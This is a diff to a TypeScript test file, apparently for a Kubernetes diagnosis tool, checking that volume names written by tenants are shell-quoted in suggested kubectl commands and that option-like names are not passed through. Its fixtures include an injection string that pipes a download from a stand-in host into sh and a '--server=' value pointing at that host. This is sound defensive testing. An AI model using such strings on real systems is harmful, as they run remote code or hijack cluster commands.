@@ -81,11 +81,14 @@ describe("explain", () => {
 describe("commands of explain", () => {
   const evil = "x;curl evil.example|sh";
 
-  it("have as one word what a tenant has written into a claim", () => {
-    const unbound = claim("pg", undefined, { volumeName: evil });
-    const { chains } = explainPod(facts({ claims: [unbound] }), pod("web", claimVolume("pg"), { node: "worker-1" }));
-    const todo = chains.flatMap(({ findings }) => findings).find(({ code }) => code === "ClaimNotBound")?.todo;
-    expect(todo).to.contain(`kubectl get pv '${evil}': is it there`);
+  it("have as one word what a tenant has written into a claim, and as no option", () => {
+    const todoOf = (volumeName: string) => {
+      const unbound = claim("pg", undefined, { volumeName });
+      const { chains } = explainPod(facts({ claims: [unbound] }), pod("web", claimVolume("pg"), { node: "worker-1" }));
+      return chains.flatMap(({ findings }) => findings).find(({ code }) => code === "ClaimNotBound")?.todo;
+    };
+    expect(todoOf(evil)).to.contain(`kubectl get pv '${evil}': is it there`);
+    expect(todoOf("--server=http://evil.example")).to.contain("kubectl get pv NAME: is it there");
   });
 
   it("have as one word what an agent has reported", () => {
